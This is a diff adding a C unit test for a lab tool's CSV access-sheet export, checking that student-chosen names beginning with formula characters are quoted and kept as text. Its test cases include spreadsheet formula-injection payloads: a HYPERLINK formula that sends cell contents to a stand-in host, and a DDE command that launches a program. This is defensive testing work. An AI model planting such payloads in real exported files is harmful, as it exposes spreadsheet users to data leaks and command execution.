@@ -1,0 +1,110 @@
+/* SPDX-License-Identifier: ISC */
+/*
+ * test_access.c - the access sheet as csv (labctl/access.c), as the rows
+ * of course.create or course.access make it: quoting as RFC 4180 wants
+ * it, and cells a spreadsheet would run as a formula kept text.  A
+ * student's name is the student's to choose, so it is where a formula
+ * would come from.
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "labctl/labctl.h"
+#include "testutil.h"
+
+/* A row as course.access gives it, for a VM that publishes ssh. */
+static json_t *
+row(const char *name, const char *user)
+{
+	return json_pack("{s:s,s:s,s:s,s:i,s:s,s:s,s:s}", "name", name,
+	    "vm", "c-x", "host", "127.0.0.1", "port", 22001, "user", user,
+	    "password", "", "ssh", "ssh -p 22001 x@127.0.0.1");
+}
+
+/* The sheet in format for rows (taken over). */
+static char *
+sheet(int format, json_t *rows)
+{
+	char	*buf = NULL;
+	size_t	 len = 0;
+	FILE	*f = open_memstream(&buf, &len);
+
+	cr_assert_not_null(f);
+	sheet_print(f, format, "c", rows);
+	fclose(f);
+	json_decref(rows);
+	return buf;
+}
+
+/* The first cell of the second line of a one-row csv sheet. */
+static char *
+first_cell(const char *name)
+{
+	char	*s = sheet(SHEET_CSV, json_pack("[o]", row(name, "x")));
+	char	*line = strchr(s, '\n'), *end, *cell;
+
+	cr_assert_not_null(line);
+	line++;
+	end = strstr(line, ",c-x,");
+	cr_assert_not_null(end, "no vm cell after the name: %s", line);
+	cell = strndup(line, end - line);
+	free(s);
+	return cell;
+}
+
+Test(access_csv, formulas_are_kept_text)
+{
+	static const struct {
+		const char	*name, *cell;
+	} cases[] = {
+		{ "=HYPERLINK(\"http://x.example/\"&A1;\"click\")",
+		  "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1;\"\"click\"\")\"" },
+		{ "=1+1", "'=1+1" },
+		{ "+1", "'+1" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+		{ "\t=1+1", "'\t=1+1" },
+		{ "\r=1+1", "\"'\r=1+1\"" },
+		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+		/* Not first: not a formula, left as it is. */
+		{ "Ann", "Ann" },
+		{ "Ann-Marie", "Ann-Marie" },
+		{ "a=b", "a=b" },
+		{ "O'Brien, Jr.", "\"O'Brien, Jr.\"" },
+		{ "Al \"Big\" Lee", "\"Al \"\"Big\"\" Lee\"" },
+		{ "", "" },
+	};
+	char	*cell;
+	size_t	 i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		cell = first_cell(cases[i].name);
+		cr_expect_str_eq(cell, cases[i].cell, "case %zu", i);
+		free(cell);
+	}
+}
+
+/* Every cell is looked at, not only the name. */
+Test(access_csv, every_cell)
+{
+	char	*s = sheet(SHEET_CSV, json_pack("[o]", row("Ann", "-x")));
+
+	cr_expect_str_eq(s, "name,vm,host,port,user,password,ssh,ssh_config\n"
+	    "Ann,c-x,127.0.0.1,22001,'-x,,ssh -p 22001 x@127.0.0.1,"
+	    "\"Host c-x\n    HostName 127.0.0.1\n    Port 22001\n    User -x\"\n");
+	free(s);
+}
+
+/* A sheet of several rows: one line each, the header first. */
+Test(access_csv, rows_and_header)
+{
+	const char	*head = "name,vm,host,port,user,password,ssh,"
+			    "ssh_config\n'=A,c-x,";
+	char		*s = sheet(SHEET_CSV, json_pack("[o,o]", row("=A", "a"),
+			    row("B", "b")));
+
+	cr_expect(strncmp(s, head, strlen(head)) == 0, "%s", s);
+	cr_expect_not_null(strstr(s, "\nB,c-x,127.0.0.1,22001,b,,"), "%s", s);
+	free(s);
+}
